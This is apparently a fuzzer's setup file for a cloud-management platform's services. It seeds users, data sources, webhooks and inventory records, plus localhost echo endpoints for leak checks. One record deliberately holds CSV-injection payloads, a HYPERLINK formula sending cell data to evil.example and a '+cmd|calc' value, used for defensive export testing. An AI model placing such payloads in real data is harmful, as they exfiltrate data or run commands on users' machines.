import http from 'node:http';
import { waitFor } from '@platform/testing';
import type { GenEnv } from './gen';
import type { Harness } from './harness';
import { OUTBOUND_MARKER } from './oracle';
import { DOMAIN, PROJECT, Pools, WORKSPACE } from './vocab';

/** Cost rows the data sources collect (the http-file plugin's CSV format). */
const COSTS_CSV = `cost,currency,year,month,day,provider,region_code,product,account,usage_quantity,tags
10.50,USD,2024,1,3,aws,us-east-1,AmazonEC2,111111111111,5,"{""env"": ""prod""}"
4.25,USD,2024,1,20,aws,us-east-1,AmazonS3,111111111111,100,"{""env"": ""dev""}"
20,USD,2024,2,1,aws,us-east-1,AmazonEC2,111111111111,9,
7.75,USD,2024,2,14,google_cloud,asia-northeast3,Compute Engine,my-project,2,
1500,KRW,2024,2,15,google_cloud,asia-northeast3,Compute Engine,my-project,1,
`;

/**
 * What the echo paths serve: the marker as a cost, a currency, a date, a project (every value a row
 * error could quote), in a 404's body and as a Prometheus status.
 */
const ECHO_CSV = `cost,currency,year,month,day,project_id
${OUTBOUND_MARKER},USD,2024,1,3,
1,${OUTBOUND_MARKER},2024,1,3,
1,USD,${OUTBOUND_MARKER},1,3,
1,USD,2024,1,3,${OUTBOUND_MARKER}
`;
const ECHO: Record<string, [number, string, string]> = {
  '/echo.csv': [200, 'text/csv', ECHO_CSV],
  '/echo-prom/api/v1/query': [200, 'application/json', JSON.stringify({ status: OUTBOUND_MARKER, data: OUTBOUND_MARKER })],
};

/** Serves the cost CSV on 127.0.0.1:`port` for data-source syncs, and the echo paths (oracle.ts, OUTBOUND_MARKER). */
export async function startCsvServer(port: number): Promise<{ url: string; echo: NonNullable<GenEnv['echo']>; close(): Promise<void> }> {
  const server = http.createServer((req, res) => {
    const path = (req.url ?? '').split('?')[0];
    if (path === '/costs.csv') return res.writeHead(200, { 'content-type': 'text/csv' }).end(COSTS_CSV);
    const [status, type, body] = ECHO[path] ?? [404, 'text/plain', `not found: ${OUTBOUND_MARKER}`];
    res.writeHead(status, { 'content-type': type }).end(body);
  });
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(port, '127.0.0.1', resolve));
  const base = `http://127.0.0.1:${port}`;
  return {
    url: `${base}/costs.csv`,
    echo: { csv: `${base}/echo.csv`, missing: `${base}/echo-missing.csv`, prometheus: `${base}/echo-prom` },
    close: () => new Promise((r) => (server.closeAllConnections(), server.close(() => r()))),
  };
}

/**
 * The setup phase: records of every resource, so that get/update/delete reach real rows and
 * list/stat/analyze have rows to work on. Every id goes into `pools`; a few extra per resource are
 * victims for delete-like verbs.
 */
export async function setup(h: Harness, csvUrl: string, log: (s: string) => void = () => {}, echo?: GenEnv['echo']): Promise<Pools> {
  const pools = new Pools();
  const apps = new Set(h.platform.apps);
  const owner = { kind: 'role', role: 'WORKSPACE_OWNER' } as const;
  const admin = { kind: 'role', role: 'DOMAIN_ADMIN' } as const;
  const must = async (app: string, path: string, body: unknown, auth: typeof owner | typeof admin = admin) => {
    const r = await h.call(app, path, body, auth);
    if (r.status !== 200) throw new Error(`setup: ${path} answered ${r.status} ${r.outcome.error ?? r.outcome.text.slice(0, 500)}`);
    return r.body;
  };
  pools.add('*', 'workspace_id', WORKSPACE);
  pools.add('*', 'domain_id', DOMAIN);

  if (apps.has('identity')) {
    const groups: string[] = [];
    for (let i = 0; i < 5; i++) {
      const g = await must('identity', '/identity/v2/project-group/create', { name: `fuzz-group-${i}`, tags: { env: i % 2 ? 'prod' : 'dev' }, ...(i === 1 && { parent_group_id: groups[0] }) }, owner);
      groups.push(g.project_group_id);
      pools.add('identity', 'project_group_id', g.project_group_id, i >= 3);
    }
    h.platform.admin('project', 'create', '--domain-id', DOMAIN, '--workspace-id', WORKSPACE, '--project-id', PROJECT, '--name', 'Fuzz', '--project-group-id', groups[0]);
    h.platform.admin('project', 'create', '--domain-id', DOMAIN, '--workspace-id', WORKSPACE, '--project-id', `${PROJECT}-2`, '--name', 'Fuzz 2');
    // Members see only their projects (#13): the fuzzer's tokens are user "admin"; PROJECT is theirs as a
    // member, PROJECT-2 is not (so both the allowed and the refused paths are exercised).
    h.platform.admin('project', 'add-users', '--domain-id', DOMAIN, '--project-id', PROJECT, '--users', 'admin');
    h.platform.admin('user', 'create', '--domain-id', DOMAIN, '--user-id', 'fuzz-user', '--password', 'fuzz-user-password-1', '--role-type', 'WORKSPACE_MEMBER', '--workspace-id', WORKSPACE);
    pools.add('*', 'project_id', PROJECT);
    pools.add('*', 'project_id', `${PROJECT}-2`);
    pools.add('*', 'user_id', 'fuzz-user');
    pools.add('*', 'user_id', 'admin');
    // The management operations (#20): users, role bindings, workspaces and projects of their own, a few
    // of each as victims. The verbs that revoke tokens get only these (gen.ts, REVOKING).
    for (const [i, userId] of ['fuzz-managed', 'fuzz-victim-0', 'fuzz-victim-1', 'fuzz-victim-2'].entries()) {
      await must('identity', '/identity/v2/user/create', { user_id: userId, password: 'fuzz-managed-password-1', tags: { env: 'prod' } });
      pools.add('identity', 'managed_user_id', userId, i > 0);
      const b = await must('identity', '/identity/v2/role-binding/create', { user_id: userId, role_id: 'managed-workspace-member', resource_group: 'WORKSPACE', workspace_id: WORKSPACE });
      pools.add('identity', 'role_binding_id', b.role_binding_id, i > 0);
    }
    for (let i = 0; i < 3; i++) {
      const w = await must('identity', '/identity/v2/workspace/create', { name: `fuzz-workspace-${i}` });
      pools.add('identity', 'managed_workspace_id', w.workspace_id, i > 0);
      const p = await must('identity', '/identity/v2/project/create', { name: `fuzz-project-${i}`, project_group_id: groups[0] }, owner);
      pools.add('identity', 'project_id', p.project_id, true);
    }
    pools.add('identity', 'role_id', 'managed-workspace-member');
    pools.add('identity', 'role_id', 'managed-workspace-owner');
    const issued = await must('identity', '/identity/v2/token/issue', { credentials: { user_id: 'fuzz-user', password: 'fuzz-user-password-1' }, domain_id: DOMAIN });
    pools.refreshToken = issued.refresh_token;
    log('setup: identity');
  }

  if (apps.has('cost-analysis')) {
    const ids: string[] = [];
    for (let i = 0; i < 4; i++) {
      const ds = await must('cost-analysis', '/cost-analysis/v1/data-source/register', {
        name: `fuzz-costs-${i}`,
        ...(i % 2 ? { resource_group: 'DOMAIN' } : { resource_group: 'WORKSPACE', workspace_id: WORKSPACE }),
        plugin_info: { plugin_id: 'plugin-http-file-cost-datasource', options: { base_url: csvUrl } },
        schedule: { state: 'DISABLED' },
        tags: { env: 'prod' },
      });
      ids.push(ds.data_source_id);
      pools.add('cost-analysis', 'data_source_id', ds.data_source_id, i >= 3);
    }
    const job = await must('cost-analysis', '/cost-analysis/v1/data-source/sync', { data_source_id: ids[0] });
    pools.add('cost-analysis', 'job_id', job.job_id);
    await waitFor(
      async () => {
        const j = await h.call('cost-analysis', '/cost-analysis/v1/job/get', { job_id: job.job_id });
        return ['SUCCESS', 'FAILURE', 'CANCELED', 'TIMEOUT'].includes(j.body?.status);
      },
      60_000,
      'the setup cost collection',
      250,
    );
    const tasks = await must('cost-analysis', '/cost-analysis/v1/job-task/list', { job_id: job.job_id });
    for (const t of tasks.results ?? []) pools.add('cost-analysis', 'job_task_id', t.job_task_id);
    if (echo) {
      // A data source reading the echo target, synced: its failed task is listed by every job-task/list
      // the fuzzer makes, and the oracle flags an error_message that quotes what it read.
      for (const [i, base_url] of [echo.csv, echo.missing].entries()) {
        const ds = await must('cost-analysis', '/cost-analysis/v1/data-source/register', {
          name: `fuzz-echo-${i}`,
          resource_group: 'WORKSPACE',
          workspace_id: WORKSPACE,
          plugin_info: { plugin_id: 'plugin-http-file-cost-datasource', options: { base_url } },
          schedule: { state: 'DISABLED' },
        });
        pools.add('cost-analysis', 'data_source_id', ds.data_source_id);
        const j = await must('cost-analysis', '/cost-analysis/v1/data-source/sync', { data_source_id: ds.data_source_id });
        pools.add('cost-analysis', 'job_id', j.job_id);
      }
    }
    const costs = await must('cost-analysis', '/cost-analysis/v1/unified-cost/list', {});
    for (const c of costs.results ?? []) pools.add('cost-analysis', 'unified_cost_id', c.unified_cost_id);
    await must('cost-analysis', '/cost-analysis/v1/exchange-rate/set', { domain_id: DOMAIN, currency: 'KRW', rate: 1300 });
    log(`setup: cost-analysis (${costs.results?.length ?? 0} unified costs)`);
  }

  if (apps.has('statistics')) {
    for (let i = 0; i < 4; i++) {
      const s = await must('statistics', '/statistics/v1/storage/register', { domain_id: DOMAIN, name: `fuzz-storage-${i}`, user_id: 'admin', tags: { env: 'prod' } });
      pools.add('statistics', 'storage_id', s.storage_id, i >= 3);
    }
    log('setup: statistics');
  }

  if (apps.has('repository')) {
    for (let i = 0; i < 4; i++) {
      const s = await must('repository', '/repository/v2/schema/create', {
        domain_id: DOMAIN,
        schema_id: `fuzz-schema-${i}`,
        name: `Fuzz schema ${i}`,
        schema: { type: 'object', properties: { name: { type: 'string' } }, required: ['name'] },
        labels: ['fuzz'],
        tags: { env: 'prod' },
      });
      pools.add('repository', 'schema_id', s.schema_id, i >= 3);
    }
    log('setup: repository');
  }

  if (apps.has('monitoring')) {
    for (let i = 0; i < 3; i++) {
      // One reads the echo target: verify-plugin on it must not quote what it answers.
      const url = i === 1 && echo ? echo.prometheus : 'http://127.0.0.1:1';
      const ds = await must('monitoring', '/monitoring/v1/data-source/register', { name: `fuzz-prometheus-${i}`, plugin_info: { plugin_id: 'plugin-prometheus-mon-datasource', provider: 'prometheus', options: { url } } });
      pools.add('monitoring', 'data_source_id', ds.data_source_id, i >= 2);
    }
    const plugins = ['plugin-prometheus-mon-webhook', 'plugin-grafana-mon-webhook', 'plugin-aws-sns-mon-webhook', 'plugin-api-direct-mon-webhook', 'plugin-prometheus-mon-webhook'];
    for (const [i, plugin_id] of plugins.entries()) {
      const w = await must('monitoring', '/monitoring/v1/webhook/create', { name: `fuzz-hook-${i}`, plugin_info: { plugin_id }, project_id: PROJECT, tags: { env: 'prod' } }, owner);
      const victim = i === plugins.length - 1;
      pools.add('monitoring', 'webhook_id', w.webhook_id, victim);
      pools.add('monitoring', 'access_key', w.access_key, victim);
      if (!victim) pools.webhookPaths.push(new URL(w.webhook_url).pathname);
    }
    const alert = { alerts: [{ status: 'firing', labels: { alertname: 'FuzzDown', severity: 'critical', instance: 'vm-1' }, annotations: { summary: 'fuzz' }, startsAt: '2024-01-05T10:00:00Z', fingerprint: 'f1' }], status: 'firing', version: '4' };
    const posted = await h.call('monitoring', pools.webhookPaths[0], alert, { kind: 'none' });
    if (posted.status !== 200) throw new Error(`setup: the webhook URL answered ${posted.status} ${posted.outcome.text}`);
    const events = await waitFor(
      async () => {
        const r = await h.call('monitoring', '/monitoring/v1/event/list', {});
        return r.body?.results?.length ? r.body.results : undefined;
      },
      30_000,
      'the setup event',
      250,
    );
    for (const e of events) pools.add('monitoring', 'event_id', e.event_id);
    log('setup: monitoring');
  }

  if (apps.has('inventory')) {
    for (let i = 0; i < 8; i++) {
      const c = await must(
        'inventory',
        '/inventory/v1/cloud-service/create',
        {
          cloud_service_type: 'Instance',
          cloud_service_group: 'EC2',
          provider: 'aws',
          // CSV injection (issue #23): a prod machine whose name and note would be formulas; the CSV
          // exports (and the oracle's check of every CSV answer) meet them
          name: i === 7 ? '=HYPERLINK("http://evil.example/?"&A1,"click")' : `vm-${i}`,
          region_code: i % 2 ? 'us-east-1' : 'eu-west-1',
          ip_addresses: [`10.0.0.${i}`],
          data: { power_state: i % 3 ? 'running' : 'stopped', cpu: i % 4, disks: [{ size: 10 }], ...(i === 7 && { note: '+cmd|calc', delta: -5 }) },
          tags: { env: i % 2 ? 'prod' : 'dev', team: 'sre' },
          project_id: PROJECT,
        },
        owner,
      );
      pools.add('inventory', 'cloud_service_id', c.cloud_service_id, i >= 6);
    }
    for (const file_format of ['CSV', 'EXCEL']) {
      const e = await must('inventory', '/inventory/v1/cloud-service/export', {
        file_format,
        options: [{ name: 'VMs', query_type: 'SEARCH', search_query: { filter: [{ key: 'tags.env', value: 'prod', operator: 'eq' }], fields: ['name', 'region_code', 'data.cpu', 'data.note', 'data.delta'] } }],
      });
      pools.downloadTokens.push(String(e.download_url).split('/').pop()!);
    }
    log('setup: inventory');
  }

  if (apps.has('opsflow')) {
    for (let i = 0; i < 3; i++) {
      const r = await h.call('opsflow', '/opsflow/v1/event/create', { event_key: `fuzz-${i}`, domain_id: DOMAIN, project_id: PROJECT, task_id: `task-${i}`, event_type: 'CREATED', name: 'Task created', user_id: 'admin' }, { kind: 'ingest' });
      if (r.status !== 200) throw new Error(`setup: opsflow ingest answered ${r.status} ${r.outcome.text}`);
      pools.add('opsflow', 'event_id', r.body.event_id);
      pools.add('opsflow', 'task_id', `task-${i}`);
    }
    log('setup: opsflow');
  }

  if (apps.has('plugin')) {
    // Supervisors with plugins (a few as victims of deregister); publish is fuzzed with the pool's ids.
    for (let i = 0; i < 4; i++) {
      const plugin_info = ['1.0.0', '1.1.0'].map((version) => ({ plugin_id: `fuzz-plugin-${i}`, version, state: 'ACTIVE', endpoint: `grpc://10.0.0.${i + 1}:50051` }));
      const s = await must('plugin', '/plugin/v1/supervisor/publish', { name: `fuzz-supervisor-${i}`, hostname: `fuzz-host-${i}`, secret_key: `fuzz-secret-${i}`, plugin_info, tags: { env: 'prod' } });
      pools.add('plugin', 'supervisor_id', s.supervisor_id, i >= 2);
      pools.add('plugin', 'plugin_id', `fuzz-plugin-${i}`);
      pools.add('plugin', 'hostname', `fuzz-host-${i}`);
    }
    log('setup: plugin');
  }
  return pools;
}
